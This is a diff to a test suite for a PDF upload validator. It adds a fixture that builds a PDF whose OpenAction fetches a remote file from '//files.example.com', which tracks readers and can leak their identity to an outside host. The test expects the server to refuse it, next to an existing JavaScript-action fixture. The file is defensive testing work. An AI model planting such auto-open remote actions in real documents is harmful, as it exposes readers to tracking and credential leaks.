@@ -124,6 +124,11 @@ describe("PDFs of the tenant's own system", () => {
         pdf.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
       );
     };
+    // Opened with the document, from wherever the name leads: another computer learns who reads it.
+    const opener = (pdf: PDFDocument): void => {
+      const action = { Type: 'Action', S: 'GoToR', F: PDFString.of('//files.example.com/a.pdf'), D: [0, 'Fit'] };
+      pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj(action));
+    };
     const other = await anyPdf((pdf) => void pdf.attach(Buffer.from('<a/>'), 'factur-x.xml', {}));
     const encrypted = Buffer.from(
       Buffer.from(await anyPdf())
@@ -141,6 +146,7 @@ describe("PDFs of the tenant's own system", () => {
       ['encrypted', encrypted, '422 pdf_refused'],
       ['too_many_pages', await anyPdf(undefined, 1000), '422 pdf_refused'],
       ['active_content', await anyPdf(script), '422 pdf_refused'],
+      ['active_content', await anyPdf(opener), '422 pdf_refused'],
       ['signed', signed, '422 pdf_refused'],
       ['other_e_invoice', other, '422 pdf_refused'],
       ['', huge, '413 payload_too_large'],
